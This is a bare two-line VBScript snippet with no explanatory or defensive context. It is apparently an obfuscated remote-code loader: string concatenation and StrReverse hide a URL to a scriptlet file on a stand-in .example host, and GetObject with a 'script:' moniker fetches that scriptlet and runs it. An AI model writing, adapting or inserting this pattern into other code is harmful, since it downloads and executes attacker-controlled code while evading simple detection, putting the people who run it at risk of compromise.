x = "scr" & "ipt:" & StrReverse("tcs.a/elpmaxe.ojbteg//:ptth")
GetObject(x)